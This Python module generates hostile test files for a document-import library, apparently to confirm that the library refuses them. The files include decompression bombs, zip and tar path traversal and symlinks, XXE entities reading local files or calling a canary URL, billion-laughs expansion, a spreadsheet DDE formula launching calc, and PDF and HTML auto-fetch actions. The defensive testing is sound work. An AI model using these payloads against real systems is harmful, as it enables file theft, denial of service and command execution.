"""Makes files that mean harm: bombs, loops, lies, links to elsewhere.  Each has a name that says what it tries.

``hostile(canary)`` gives them by file name; ``canary`` is the address that none of them may reach, and
``SECRET`` stands in a file that none of them may bring into the library.
"""

from __future__ import annotations

import gzip
import io
import json
import stat
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path

from make_files import docx, paragraph, pdf, typeset, xlsx, zip_file, zip_with_raw_names

SECRET = "绝密：这一行谁也不该读到"
GOOD = "临澄市教育局{year}年工作要点\n一、重点工作\n1．切实减轻中小学生过重课业负担。\n2．新建幼儿园{count}所。\n"
TEXT = GOOD.format(year=1999, count=3)
MB = 2**20


@dataclass(frozen=True, slots=True)
class Hostile:
    """``make`` gives the bytes; ``goes_in``: whether harmless text of it may come into the library."""

    name: str
    make: Callable[[], bytes]
    goes_in: bool = False
    heavy: bool = False
    """Takes more than a second to make or to refuse."""


def hostile(secret: Path, canary: str) -> list[Hostile]:
    """At least sixty kinds; ``secret`` is the path of a file with ``SECRET``."""
    return [
        *_zips(secret),
        *_words(secret, canary),
        *_sheets(secret, canary),
        *_pdfs(canary),
        *_texts(canary),
        *_others(secret, canary),
    ]


def good(number: int) -> tuple[str, bytes]:
    """One of many harmless plans, in one of five formats."""
    text = GOOD.format(year=1980 + number, count=number + 2)
    kinds: Mapping[str, Callable[[], bytes]] = {
        "txt": text.encode,
        "md": lambda: text.encode("gb18030"),
        "html": lambda: "".join(f"<p>{line}</p>" for line in text.splitlines()).encode(),
        "docx": lambda: docx("".join(map(paragraph, text.splitlines()))),
        "pdf": lambda: pdf(typeset(text)),
    }
    extension = list(kinds)[number % len(kinds)]
    return f"好{number:02}.{extension}", kinds[extension]()


def _zips(secret: Path) -> Iterator[Hostile]:
    zeros = bytes(64 * MB)
    yield Hostile("炸弹.zip", lambda: zip_file({"a.txt": zeros}))
    yield Hostile("炸弹十枚.zip", lambda: zip_file({f"{n}.txt": zeros for n in range(10)}), heavy=True)
    yield Hostile("套五十层.zip", lambda: _nested(50))
    yield Hostile("套四层每层八个.zip", lambda: _wide(4, 8))
    yield Hostile("重叠.zip", lambda: _overlapping(200))
    yield Hostile("十万个.zip", lambda: zip_file({f"{n}.txt": b"" for n in range(100_000)}), heavy=True)
    yield Hostile(
        "大小说谎.zip",
        lambda: _patched(zip_file({"a.txt": TEXT.encode() * 9}), b"PK\x01\x02", 24, b"\x05\0\0\0"),
    )
    yield Hostile("截断.zip", lambda: zip_file({"a.txt": TEXT.encode()})[:150])
    yield Hostile(
        "加密.zip",
        lambda: _patched(
            _patched(zip_file({"a.txt": b"x"}), b"PK\x01\x02", 8, b"\x01"), b"PK\x03\x04", 6, b"\x01"
        ),
    )
    yield Hostile(
        "不认识的压缩法.zip",
        lambda: _patched(
            _patched(zip_file({"a.txt": b"x"}), b"PK\x01\x02", 10, b"\x63"), b"PK\x03\x04", 8, b"\x63"
        ),
    )
    yield Hostile(
        "校验和不对.zip", lambda: _patched(zip_file({"a.txt": TEXT.encode()}), b"PK\x01\x02", 16, b"\0\0\0\0")
    )
    yield Hostile("两点.zip", lambda: zip_file({"../../../../evil.txt": TEXT.encode()}), True)
    yield Hostile("绝对路径.zip", lambda: zip_file({str(secret.parent / "evil.txt"): TEXT.encode()}), True)
    yield Hostile(
        "反斜杠.zip", lambda: zip_file({"..\\..\\evil.txt": TEXT.encode(), "C:\\evil.txt": b"x"}), True
    )
    yield Hostile("链接.zip", lambda: _link(str(secret)), True)
    yield Hostile(
        "国标名.zip", lambda: zip_with_raw_names({"计划/../要点.txt".encode("gb18030"): TEXT.encode()}), True
    )
    yield Hostile("名字里有换行.zip", lambda: zip_file({"a\n\x1b[31m\u202etxt.exe.txt": TEXT.encode()}), True)
    yield Hostile("名字很长.zip", lambda: zip_file({"长" * 20_000 + ".txt": TEXT.encode()}), True)
    yield Hostile("同名两次.zip", lambda: _twice(), True)
    yield Hostile(
        "目录偏移说谎.zip",
        lambda: _patched(zip_file({"a.txt": b"x"}), b"PK\x05\x06", 16, b"\xff\xff\xff\x7f"),
    )
    yield Hostile(
        "目录条数说谎.zip",
        lambda: _patched(zip_file({"a.txt": b"x"}), b"PK\x05\x06", 8, b"\xff\xff\xff\xff"),
        True,
    )


def _words(secret: Path, canary: str) -> Iterator[Hostile]:
    body = paragraph(TEXT)
    yield Hostile("炸弹.docx", lambda: _word("<w:p><w:r><w:t>" + "0" * (64 * MB) + "</w:t></w:r></w:p>"))
    yield Hostile(
        "段落炸弹.docx", lambda: _word("<w:p><w:r><w:t>减</w:t></w:r></w:p>" * 1_500_000), heavy=True
    )
    for name, entity in (
        ("外部实体文件.docx", f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}">]>'),
        ("外部实体网址.docx", f'<!DOCTYPE x [<!ENTITY e SYSTEM "{canary}/entity">]>'),
        ("外部定义.docx", f'<!DOCTYPE x SYSTEM "{canary}/x.dtd" [<!ENTITY e "甲">]>'),
        ("参数实体.docx", f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{canary}/p.dtd"> %p;<!ENTITY e "甲">]>'),
        ("十亿个哈.docx", _laughs()),
        ("平方膨胀.docx", f'<!DOCTYPE x [<!ENTITY e "{"哈" * 100_000}">]>'),
    ):
        many = "&e;" * (2000 if "平方" in name else 1)
        yield Hostile(
            name,
            lambda entity=entity, many=many: _word(f"{body}<w:p><w:r><w:t>{many}</w:t></w:r></w:p>", entity),
            True,
        )  # type: ignore[misc]
    yield Hostile("远程模板.docx", lambda: _remote(docx(body), canary), True)
    yield Hostile("嵌套十万层.docx", lambda: _word("<w:sdt>" * 100_000 + "</w:sdt>" * 100_000))
    yield Hostile("样式成环.docx", lambda: docx(body, styles="".join(
        f'<w:style w:type="paragraph" w:styleId="s{n}"><w:basedOn w:val="s{(n + 1) % 3}"/></w:style>' for n in range(3))), True)  # fmt: skip
    cell = '<w:tc><w:tcPr><w:gridSpan w:val="99999999"/></w:tcPr>' + paragraph("格") + "</w:tc>"
    yield Hostile("跨亿列.docx", lambda: docx(f"{body}<w:tbl>{f'<w:tr>{cell}</w:tr>' * 50}</w:tbl>"), True)
    yield Hostile("截断.docx", lambda: docx(body * 500)[:-900])
    yield Hostile("没有正文.docx", lambda: _without(docx(body), "word/document.xml"))
    yield Hostile("自称巨大.docx", lambda: _patched(docx(body), b"PK\x01\x02", 24, b"\xff\xff\xff\x7f"), True)


def _sheets(secret: Path, canary: str) -> Iterator[Hostile]:
    plain = {"表": [["标题", "正文"], ["要点", TEXT]]}
    yield Hostile(
        "炸弹.xlsx", lambda: _sheet("<row><c t='inlineStr'><is><t>" + "0" * (64 * MB) + "</t></is></c></row>")
    )
    yield Hostile("一格在天边.xlsx", lambda: _sheet(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>正文</t></is></c></row>'
        '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>减负</t></is></c></row>'), heavy=True)  # fmt: skip
    yield Hostile("外部实体.xlsx", lambda: _sheet(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>正文</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>减负&e;</t></is></c></row>',
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}">]>'), True)  # fmt: skip
    yield Hostile("十亿个哈.xlsx", lambda: _sheet(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>正文</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>减负&e;</t></is></c></row>',
        _laughs()), True)  # fmt: skip
    yield Hostile(
        "公式.xlsx",
        lambda: xlsx({"表": [["标题", "正文"], ["=cmd|' /C calc'!A0", f'=HYPERLINK("{canary}")' + TEXT]]}),
        True,
    )
    yield Hostile("截断.xlsx", lambda: xlsx(plain)[:-200])


def _pdfs(canary: str) -> Iterator[Hostile]:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
    yield Hostile(
        "页树成环.pdf",
        lambda: _pdf(
            b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count 9 /Kids [2 0 R 2 0 R] >>"
        ),
    )
    yield Hostile(
        "自称二十亿页.pdf",
        lambda: _pdf(
            b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count 2147483647 /Kids [3 0 R] >>", page
        ),
        heavy=True,
    )
    yield Hostile(
        "括号十万层.pdf",
        lambda: _pdf(
            b"<< /Type /Catalog /Pages 2 0 R /X " + b"[" * 100_000 + b"]" * 100_000 + b" >>",
            b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
            page,
        ),
    )
    bomb = zlib.compress(zlib.compress(bytes(256 * MB), 9), 9)
    yield Hostile("流炸弹.pdf", lambda: _pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        b"<< /Filter [/FlateDecode /FlateDecode] /Length %d >>\nstream\n%s\nendstream" % (len(bomb), bomb)))  # fmt: skip
    form = b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 4 0 R >> >> /Length 11 >>\nstream\n/F Do /F Do\nendstream"
    yield Hostile("图形套自己.pdf", lambda: _pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /F 4 0 R >> >> >>", form), heavy=True)  # fmt: skip
    yield Hostile(
        "交叉表成环.pdf",
        lambda: (
            pdf(typeset(TEXT)).replace(b"trailer\n<<", b"trailer\n<< /Prev 99999 ", 1)
            + b"\nstartxref\n15\n%%EOF"
        ),
        True,
    )
    yield Hostile("截断.pdf", lambda: pdf(typeset(TEXT * 40))[:2000])
    action = f"/OpenAction << /S /URI /URI ({canary}/open) >> /AA << /WC << /S /JavaScript /JS (app.launchURL('{canary}')) >> >> ".encode()
    yield Hostile(
        "打开就连网.pdf",
        lambda: pdf(typeset(TEXT)).replace(b"<< /Type /Catalog", b"<< /Type /Catalog " + action, 1),
        True,
    )
    yield Hostile("一万页.pdf", lambda: pdf([[] for _ in range(10_000)]), heavy=True)
    yield Hostile(
        "三十万字形.pdf",
        lambda: pdf([[(10, 10 + n % 800, 9, "减负" * 50) for n in range(3_000)]]),
        True,
        heavy=True,
    )


def _texts(canary: str) -> Iterator[Hostile]:
    yield Hostile("一行五十兆.txt", lambda: "减负".encode() * (50 * MB // 6), heavy=True)
    yield Hostile("一行六兆.html", lambda: ("<p>" + "减负" * (3 * MB) + "</p>").encode())
    yield Hostile("空字符.txt", lambda: TEXT.replace("，", "\0").replace("。", "\0").encode() + bytes(5000))
    yield Hostile("孤立代理项.txt", lambda: TEXT.encode() + b"\xed\xa0\x80\xed\xb0\x80" * 50)
    yield Hostile(
        "双向和零宽.txt",
        lambda: "\u202e\u2066".join(TEXT).encode() + "\u200b\ufeff\u2069\u200f".encode() * 500,
        True,
    )
    yield Hostile("组合记号.txt", lambda: (TEXT + "减" + "\u0301\u0489" * 200_000).encode(), True)
    yield Hostile(
        "随机字节.txt",
        lambda: b"".join(struct.pack("<Q", n * 0x9E3779B97F4A7C15 % 2**64) for n in range(20_000)),
    )
    yield Hostile("标记说谎.txt", lambda: b"\xff\xfe" + TEXT.encode() + b"\x00")
    yield Hostile("全是空白.txt", lambda: b" \n\t" * 100_000)
    yield Hostile("空的.txt", lambda: b"")
    yield Hostile("嵌套百万层.html", lambda: b"<div>" * 1_000_000 + TEXT.encode(), True, heavy=True)
    yield Hostile(
        "脚本和远程.html",
        lambda: (
            f'<base href="{canary}/"><meta http-equiv="refresh" content="0;{canary}"><script src="x.js"></script><img src="{canary}/i"><link rel="stylesheet" href="{canary}/c"><iframe src="file:///etc/passwd"></iframe><p>{TEXT}</p>'.encode()
        ),
        True,
    )
    yield Hostile(
        "属性炸弹.html",
        lambda: b"<p " + b"".join(b"a%d=1 " % n for n in range(200_000)) + b">" + TEXT.encode(),
        True,
        heavy=True,
    )
    yield Hostile("注释不关.html", lambda: b"<p>x</p>" + b"<!--" * 200_000, True)
    yield Hostile("嵌套十万层.jsonl", lambda: b'{"content": ' + b"[" * 100_000 + b"]" * 100_000 + b"}")
    yield Hostile(
        "代理项和无穷.jsonl",
        lambda: (
            json.dumps({"title": "要点\ud800", "content": TEXT + "\ud800\0"})
            + '\n{"content": NaN, "year": Infinity}\n{"content": 1e999}'
        ).encode(),
        True,
    )
    yield Hostile("引号不关.csv", lambda: ("标题,正文\n" + '"' + "减负," * 300_000).encode(), True)
    yield Hostile("十万列.csv", lambda: ("正文," * 100_000 + "\n" + "减," * 100_000).encode(), True)


def _others(secret: Path, canary: str) -> Iterator[Hostile]:
    yield Hostile("其实是程序.docx", lambda: b"\x7fELF\x02\x01\x01" + bytes(5000))
    yield Hostile("其实是图片.pdf", lambda: b"\x89PNG\r\n\x1a\n" + bytes(5000))
    yield Hostile("其实是文档.txt", lambda: docx(paragraph(TEXT)), True)
    yield Hostile("其实是文本.pdf", lambda: TEXT.encode())
    yield Hostile("炸弹.gz", lambda: gzip.compress(bytes(200 * MB)))
    yield Hostile("连到别处.tar", lambda: _tar(secret), True)
    yield Hostile("炸弹.tgz", lambda: gzip.compress(_tar(secret, bytes(300 * MB))), heavy=True)
    yield Hostile("坏头.7z", lambda: b"7z\xbc\xaf\x27\x1c\0\x04" + b"\xff" * 200)
    yield Hostile("组套十万层.rtf", lambda: b"{\\rtf1" + b"{" * 100_000 + b"x" + b"}" * 100_001, True)
    yield Hostile("扇区成环.doc", lambda: _ole_loop())
    yield Hostile("外部实体.odt", lambda: _odt(f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}">]>'), True)
    yield Hostile("十亿个哈.odt", lambda: _odt(_laughs()), True)
    yield Hostile(
        "外部实体.ofd",
        lambda: zip_file(
            {
                "OFD.xml": f'<!DOCTYPE x [<!ENTITY e SYSTEM "{canary}/ofd">]><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016"><ofd:DocBody><ofd:DocRoot>../../evil&e;</ofd:DocRoot></ofd:DocBody></ofd:OFD>'.encode()
            }
        ),
    )
    yield Hostile("外部实体.epub", lambda: _epub(secret), True)
    yield Hostile("嵌套千层.mht", lambda: _mht(1000))


def _nested(depth: int) -> bytes:
    data = zip_file({"x.txt": TEXT.encode()})
    for _ in range(depth):
        data = zip_file({"n.zip": data})
    return data


def _wide(depth: int, width: int) -> bytes:
    data = zip_file({"x.txt": bytes(20 * MB)})
    for _ in range(depth):
        data = zip_file({f"{n}.zip": data for n in range(width)})
    return data


def _overlapping(count: int) -> bytes:
    """A central directory whose entries all stand for the same 20 MB of zeros."""
    data = zip_file({"a.txt": bytes(20 * MB)})
    directory, end = data.index(b"PK\x01\x02"), data.index(b"PK\x05\x06")
    entry = data[directory:end]
    many = b"".join(entry.replace(b"a.txt", b"%05d" % n) for n in range(count))
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(many), directory, 0)
    return data[:directory] + many + tail


def _patched(data: bytes, magic: bytes, at: int, value: bytes) -> bytes:
    """The bytes at ``at`` behind the last ``magic`` replaced."""
    start = data.rindex(magic) + at
    return data[:start] + value + data[start + len(value) :]


def _link(target: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        info = zipfile.ZipInfo("要点.txt")
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(info, target)
    return out.getvalue()


def _twice() -> bytes:
    first = zip_file({"aaaaa.txt": TEXT.encode(), "bbbbb.txt": TEXT.encode()})
    return first.replace(b"bbbbb.txt", b"aaaaa.txt")


def _rewritten(data: bytes, change: Mapping[str, bytes | None]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts: dict[str, bytes | None] = {name: archive.read(name) for name in archive.namelist()}
    parts.update(change)
    return zip_file({name: part for name, part in parts.items() if part is not None})


def _without(data: bytes, name: str) -> bytes:
    return _rewritten(data, {name: None})


def _word(body: str, doctype: str = "") -> bytes:
    plain = docx("")
    with zipfile.ZipFile(io.BytesIO(plain)) as archive:
        document = archive.read("word/document.xml").decode()
    xml = '<?xml version="1.0" encoding="UTF-8"?>' + doctype + document.replace("<w:body>", f"<w:body>{body}")
    return _rewritten(plain, {"word/document.xml": xml.encode()})


def _remote(data: bytes, canary: str) -> bytes:
    place = "word/_rels/document.xml.rels"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        relations = archive.read(place).decode()
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    more = "".join(
        f'<Relationship Id="x{name}" Type="{kind}{name}" TargetMode="External" Target="{canary}/{name}"/>'
        for name in ("attachedTemplate", "image", "numbering", "footnotes", "subDocument")
    )
    return _rewritten(data, {place: relations.replace("<Relationship ", more + "<Relationship ", 1).encode()})


def _sheet(rows: str, doctype: str = "") -> bytes:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    xml = f'<?xml version="1.0"?>{doctype}<worksheet xmlns="{main}"><sheetData>{rows}</sheetData></worksheet>'
    return _rewritten(xlsx({"表": [["正文"]]}), {"xl/worksheets/sheet1.xml": xml.encode()})


def _laughs() -> str:
    levels = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "哈"}">' for n in range(10))
    return f'<!DOCTYPE x [{levels}<!ENTITY e "&e9;">]>'


def _pdf(*objects: bytes) -> bytes:
    out, offsets = b"%PDF-1.4\n", []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return out + b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, table, len(objects) + 1, len(out))  # fmt: skip


def _tar(secret: Path, content: bytes | None = None) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        names = {"../../evil.txt": TEXT.encode(), str(secret.parent / "evil.txt"): TEXT.encode()}
        for name, data in (names if content is None else {"a.txt": content}).items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
        for name, kind in (
            ("软.txt", tarfile.SYMTYPE),
            ("硬.txt", tarfile.LNKTYPE),
            ("管.txt", tarfile.FIFOTYPE),
            ("零.txt", tarfile.CHRTYPE),
        ):
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, str(secret)
            archive.addfile(info)
    return out.getvalue()


def _ole_loop() -> bytes:
    """A compound file whose sector table says that each sector follows itself."""
    head = bytearray(512)
    head[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", head, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<LLLLLLLL", head, 44, 1, 1, 0, 4096, 2, 1, 0xFFFFFFFE, 0)
    struct.pack_into("<109L", head, 76, 0, *[0xFFFFFFFF] * 108)
    table = struct.pack("<128L", *range(128))
    directory = bytearray(512)
    name = "WordDocument".encode("utf-16-le")
    directory[: len(name)] = name
    struct.pack_into("<H", directory, 64, len(name) + 2)
    return bytes(head) + table + bytes(directory) * 8


def _odt(doctype: str) -> bytes:
    office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    words = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
    lines = "".join(f"<text:p>{line}</text:p>" for line in TEXT.splitlines())
    xml = f'<?xml version="1.0"?>{doctype}<office:document-content xmlns:office="{office}" xmlns:text="{words}"><office:body><office:text>{lines}<text:p>&e;</text:p></office:text></office:body></office:document-content>'
    return zip_file({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": xml.encode()})


def _epub(secret: Path) -> bytes:
    entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}">]>'
    container = f'<?xml version="1.0"?>{entity}<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="../../evil.opf" media-type="application/oebps-package+xml"/><rootfile full-path="a.opf" media-type="application/oebps-package+xml"/></rootfiles></container>'
    package = f'<?xml version="1.0"?>{entity}<package xmlns="http://www.idpf.org/2007/opf"><metadata/><manifest><item id="a" href="a.xhtml" media-type="application/xhtml+xml"/><item id="b" href="{secret}" media-type="application/xhtml+xml"/></manifest><spine><itemref idref="a"/><itemref idref="b"/></spine></package>'
    chapter = f'<?xml version="1.0"?>{entity}<html xmlns="http://www.w3.org/1999/xhtml"><body><p>{TEXT}</p><p>&e;</p></body></html>'
    return zip_file(
        {
            "mimetype": b"application/epub+zip",
            "META-INF/container.xml": container.encode(),
            "a.opf": package.encode(),
            "a.xhtml": chapter.encode(),
        }
    )


def _mht(depth: int) -> bytes:
    head = b"MIME-Version: 1.0\r\n"
    for level in range(depth):
        head += b'Content-Type: multipart/related; boundary="b%d"\r\n\r\n--b%d\r\n' % (level, level)
    return head + b"Content-Type: text/html\r\n\r\n<p>x</p>"
